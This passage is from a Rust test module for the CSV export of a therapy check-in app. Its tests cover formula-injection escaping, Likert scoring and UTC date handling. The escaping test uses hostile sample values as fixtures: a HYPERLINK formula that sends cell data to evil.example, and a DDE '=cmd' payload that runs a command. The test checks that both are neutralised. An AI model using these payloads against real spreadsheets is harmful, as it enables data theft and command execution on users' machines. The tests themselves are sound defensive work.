                e,2026-11-22T20:45:00Z,builtin.alliance-checkin,3,,,,,,,,,⏎
            "#]],
        );
        check_csv(
            &[],
            expect![[r#"
            id,completed_at,questionnaire,questionnaire_version,practice,therapist,edited_at,item_connection,item_focus,item_way-of-working,item_overall,total,note⏎
        "#]],
        );
    }

    #[test]
    fn csv_never_lets_a_spreadsheet_run_a_cell() {
        let notes = [
            r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
            "+1",
            "-2",
            "@SUM(A1:A9)",
            "\tTAB first",
            "\rCR first",
            "＝1+1 full width",
            "she said \"ok\", then\nleft\r\nearly",
            "שלום, \u{202e}reversed\u{202c} ok",
            "🙂👍🏽 fine",
            "a = b + c - d @ e",
            "'already quoted",
        ];
        let entries: Vec<CheckIn> = notes
            .iter()
            .enumerate()
            .map(|(index, note)| {
                let mut entry = entry(&format!("n{index:02}"), index as u64);
                entry.note = (*note).into();
                entry
            })
            .collect();
        check_csv(
            &entries,
            expect![[r#"
            id,completed_at,questionnaire,questionnaire_version,practice,therapist,edited_at,item_connection,item_focus,item_way-of-working,item_overall,total,note⏎
            n00,2026-11-22T14:05:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"⏎
            n01,2026-11-22T14:06:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,'+1⏎
            n02,2026-11-22T14:07:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,'-2⏎
            n03,2026-11-22T14:08:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,'@SUM(A1:A9)⏎
            n04,2026-11-22T14:09:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,'␉TAB first⏎
            n05,2026-11-22T14:10:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,"'␍CR first"⏎
            n06,2026-11-22T14:11:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,'＝1+1 full width⏎
            n07,2026-11-22T14:12:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,"she said ""ok"", then
            left⏎
            early"⏎
            n08,2026-11-22T14:13:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,"שלום, <U+202E>reversed<U+202C> ok"⏎
            n09,2026-11-22T14:14:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,🙂👍🏽 fine⏎
            n10,2026-11-22T14:15:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,a = b + c - d @ e⏎
            n11,2026-11-22T14:16:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,7.5,35,'already quoted⏎
        "#]],
        );
        let mut hostile = entry("=cmd|' /C calc'!A0", 0);
        hostile.practice = Some("=1+2".into());
        hostile.therapist = Some("@Dr".into());
        hostile.instrument.id = "-x".into();
        check_csv(
            &[hostile],
            expect![[r#"
            id,completed_at,questionnaire,questionnaire_version,practice,therapist,edited_at,item_connection,item_focus,item_way-of-working,item_overall,total,note⏎
            '=cmd|' /C calc'!A0,2026-11-22T14:05:00Z,'-x,1,'=1+2,'@Dr,,,,,,,⏎
        "#]],
        );
    }

    #[test]
    fn csv_gives_likert_answers_as_their_point_and_totals_after_reversing() {
        let mut instrument = builtin_instrument();
        instrument.items[3].scale = Scale::Likert {
            labels: vec!["a".into(), "b".into(), "c".into(), "d".into(), "e".into()],
            first_value: 1,
        };
        instrument.items[3].reverse = true;
        let mut likert = entry("a", 0);
        likert.answers[3].value = 4;
        let csv = export_csv(&[likert], &instrument);
        let row = csv.split("\r\n").nth(1).unwrap();
        // 9 + 8.5 + 10 + (1 + 5 - 4) = 29.5
        assert_eq!(
            row,
            "a,2026-11-22T14:05:00Z,builtin.alliance-checkin,1,,,,9,8.5,10,4,29.5,"
        );
    }

    #[test]
    fn iso_dates_are_utc_to_the_second() {
        let cases = [
            (0, "1970-01-01T00:00:00Z"),
            (951_782_400_000, "2000-02-29T00:00:00Z"),
            (1_709_251_199_999, "2024-02-29T23:59:59Z"),
            (1_795_356_300_000, "2026-11-22T14:05:00Z"),
            (4_102_444_800_000, "2100-01-01T00:00:00Z"),
            (253_402_300_799_999, "9999-12-31T23:59:59Z"),
            (253_402_300_800_000, "10000-01-01T00:00:00Z"),
        ];
        for (ms, expected) in cases {
            assert_eq!(iso_utc(ms), expected, "{ms}");
        }
        assert!(iso_utc(u64::MAX).ends_with('Z'));
    }

    #[test]
    fn days_follow_the_gregorian_calendar() {
        let leap = |year: u64| {
            year.is_multiple_of(4) && (!year.is_multiple_of(100) || year.is_multiple_of(400))
        };
        let length = |year, month| match month {
            2 if leap(year) => 29,
            2 => 28,
            4 | 6 | 9 | 11 => 30,
            _ => 31,
        };
        let mut expected = (1970, 1, 1);
        for days in 0..200_000 {
            assert_eq!(civil_from_days(days), expected, "day {days}");
            let (year, month, day) = expected;
            expected = if day < length(year, month) {
                (year, month, day + 1)
            } else if month < 12 {
                (year, month + 1, 1)
            } else {
                (year + 1, 1, 1)
            };
        }
    }
}
